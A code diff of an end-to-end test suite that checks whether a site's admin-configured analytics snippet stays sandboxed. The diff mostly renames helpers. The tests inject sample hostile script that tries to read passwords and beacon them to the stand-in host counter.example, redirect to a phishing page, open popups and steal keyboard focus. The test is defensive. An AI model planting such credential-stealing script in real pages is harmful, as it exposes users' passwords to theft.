@@ -1,16 +1,17 @@
 import type { Page } from 'playwright-core';
 import { afterAll, expect, test } from 'vitest';
-import { eventually, keeperOf, ready } from './public-site.ts';
+import { createAdminApi } from './admin-api.ts';
+import { eventually, waitForHydration } from './page-helpers.ts';
 import { startSite } from './support/site.ts';
-import { newPerson } from './test-accounts.ts';
+import { newAccount } from './test-accounts.ts';
 
 const site = await startSite();
 const { visit, visitAs, address } = site;
-const keeper = keeperOf(site);
-const setSnippet = (snippet: string) => keeper.set({ 'system.analytics': snippet });
+const adminApi = createAdminApi(site);
+const setSnippet = (snippet: string) => adminApi.setSettings({ 'system.analytics': snippet });
 afterAll(() => setSnippet(''));
 
-/** What the snippet sends to its own host. */
+/** Records the requests that the snippet sends to its host. */
 async function collectBeacons(page: Page) {
   const beacons: string[] = [];
   await page.context().route('https://counter.example/**', async (route) => {
@@ -26,9 +27,9 @@ async function collectBeacons(page: Page) {
   return beacons;
 }
 
-/** The state of the snippet in its frame; null when no frame is open. */
-async function snippetState(page: Page) {
-  const frame = page.frames().find((each) => each.url().startsWith(`${address}/analytics/`));
+/** Returns null when no analytics frame is open. */
+async function readSnippetState(page: Page) {
+  const frame = page.frames().find((candidate) => candidate.url().startsWith(`${address}/analytics/`));
   if (!frame) return null;
   return frame.evaluate(() => {
     const { runs = 0, _hmt = [] } = window as { runs?: number; _hmt?: string[][] };
@@ -36,19 +37,19 @@ async function snippetState(page: Page) {
   });
 }
 
-test('the analytics script runs once on the first public page, then each path is recorded', async () => {
+test('the analytics script runs once on the first public page and then records each path', async () => {
   await setSnippet('<script>window.runs = (window.runs || 0) + 1; window._hmt = [];</script>');
   const page = await visit('/login');
-  expect(await snippetState(page)).toBeNull();
+  expect(await readSnippetState(page)).toBeNull();
   await page.getByRole('banner').getByRole('link', { name: '首页' }).click();
-  await eventually(() => snippetState(page)).toEqual({ runs: 1, pages: [] });
+  await eventually(() => readSnippetState(page)).toEqual({ runs: 1, pages: [] });
   await page.getByRole('banner').getByRole('link', { name: '学术论文' }).click();
   await page.waitForURL('**/category/*');
   const { pathname } = new URL(page.url());
-  await eventually(() => snippetState(page)).toEqual({ runs: 1, pages: [pathname] });
+  await eventually(() => readSnippetState(page)).toEqual({ runs: 1, pages: [pathname] });
   await page.getByRole('banner').getByRole('link', { name: '登录' }).click();
   await page.waitForURL(`${address}/login?redirect=${encodeURIComponent(pathname)}`);
-  await eventually(() => snippetState(page)).toBeNull();
+  await eventually(() => readSnippetState(page)).toBeNull();
 });
 
 test('an analytics script with an external source runs, with its attributes, beside inline code', async () => {
@@ -66,8 +67,8 @@ test('an analytics script with an external source runs, with its attributes, bes
   await eventually(() => [...beacons].sort()).toEqual(['external-7', 'inline-a=12']);
 });
 
-/** Tries each way to a password or token that a script on the page itself would have. */
-const LISTENS = `
+/** Tries every way in which a script on the page could read a password or token. */
+const EAVESDROPPING_CODE = `
   const send = (text) => {
     const image = new Image();
     image.src = 'https://counter.example/beacon?' + encodeURIComponent(text);
@@ -86,8 +87,8 @@ const LISTENS = `
   try { top.location = '/analytics/phishing'; } catch { send('refused:navigation'); }
   try { if (window.open('/login') === null) send('refused:popup'); } catch { send('refused:popup'); }
   const started = send('started');`;
-/** Waits until the beacon was sent: the page closes the frame as soon as it takes the focus. */
-const TAKES_FOCUS = `
+/** Waits for the first beacon, because the page closes the frame as soon as the frame takes the focus. */
+const FOCUS_STEALING_CODE = `
   const input = document.createElement('input');
   document.documentElement.append(input);
   const takeFocus = () => setInterval(() => { window.focus(); input.focus(); }, 5);
@@ -96,52 +97,52 @@ const TAKES_FOCUS = `
 const SECRET = 'sesame-open-4711';
 
 test.each([
-  ['reads the page', 'page-reader', LISTENS],
-  ['takes the keyboard focus', 'focus-taker', LISTENS + TAKES_FOCUS],
+  ['reads the page', 'page-reader', EAVESDROPPING_CODE],
+  ['takes the keyboard focus', 'focus-taker', EAVESDROPPING_CODE + FOCUS_STEALING_CODE],
 ])('an analytics script that %s captures no password typed in a dialog or on any page', async (_, name, code) => {
   await setSnippet(`<script>${code}</script>`);
-  const person = await newPerson(site, name);
-  const page = await visitAs(await person.enter(), 'about:blank');
+  const account = await newAccount(site, name);
+  const page = await visitAs(await account.logIn(), 'about:blank');
   const beacons = await collectBeacons(page);
-  const type = async (field: ReturnType<Page['getByLabel']>) => {
+  const typeSecretInto = async (field: ReturnType<Page['getByLabel']>) => {
     await field.click();
     await page.keyboard.type(SECRET, { delay: 10 });
     expect(await field.inputValue()).toBe(SECRET);
   };
-  await page.goto(`/user/${person.id}`);
-  await ready(page);
+  await page.goto(`/user/${account.id}`);
+  await waitForHydration(page);
   await eventually(() => beacons).toContain('started');
   await page.getByRole('main').getByRole('button', { name: '个人资料' }).click();
   const dialog = page.getByRole('dialog', { name: '个人资料' });
   await dialog.getByRole('tab', { name: '修改密码' }).click();
-  for (const label of ['原密码', '新密码', '确认密码']) await type(dialog.getByLabel(label, { exact: true }));
+  for (const label of ['原密码', '新密码', '确认密码']) await typeSecretInto(dialog.getByLabel(label, { exact: true }));
   await dialog.getByRole('tab', { name: '修改资料' }).click();
   await dialog.getByLabel('联系邮箱').fill('other@mail.example');
-  await type(dialog.getByLabel('登录密码'));
+  await typeSecretInto(dialog.getByLabel('登录密码'));
   await page.keyboard.press('Escape');
   await dialog.waitFor({ state: 'detached' });
   await page.getByRole('link', { name: '账户安全' }).click();
   await page.waitForURL('**/security');
   await page.getByRole('button', { name: '开启两步验证' }).click();
-  await type(page.locator('input[type=password]').first());
+  await typeSecretInto(page.locator('input[type=password]').first());
 
-  const visitor = await visit('about:blank');
-  const visitorBeacons = await collectBeacons(visitor);
-  await visitor.goto('/');
+  const visitorPage = await visit('about:blank');
+  const visitorBeacons = await collectBeacons(visitorPage);
+  await visitorPage.goto('/');
   await eventually(() => visitorBeacons).toContain('started');
-  const typeSecret = async () => {
-    const field = visitor.locator('input[type=password]').first();
+  const typeVisitorSecret = async () => {
+    const field = visitorPage.locator('input[type=password]').first();
     await field.click();
-    await visitor.keyboard.type(SECRET, { delay: 10 });
+    await visitorPage.keyboard.type(SECRET, { delay: 10 });
     expect(await field.inputValue()).toBe(SECRET);
   };
-  await visitor.getByRole('banner').getByRole('link', { name: '登录' }).click();
-  await typeSecret();
-  await visitor.getByRole('main').getByRole('link', { name: '注册' }).click();
-  await visitor.waitForURL('**/register');
-  await typeSecret();
-  const sent = [...beacons, ...visitorBeacons].filter((text) => !/^(refused:|started$)/.test(text));
-  expect(sent).toEqual([]);
+  await visitorPage.getByRole('banner').getByRole('link', { name: '登录' }).click();
+  await typeVisitorSecret();
+  await visitorPage.getByRole('main').getByRole('link', { name: '注册' }).click();
+  await visitorPage.waitForURL('**/register');
+  await typeVisitorSecret();
+  const leakedTexts = [...beacons, ...visitorBeacons].filter((text) => !/^(refused:|started$)/.test(text));
+  expect(leakedTexts).toEqual([]);
 });
 
 test('the document of the analytics script stays isolated when it is opened outside of a frame', async () => {
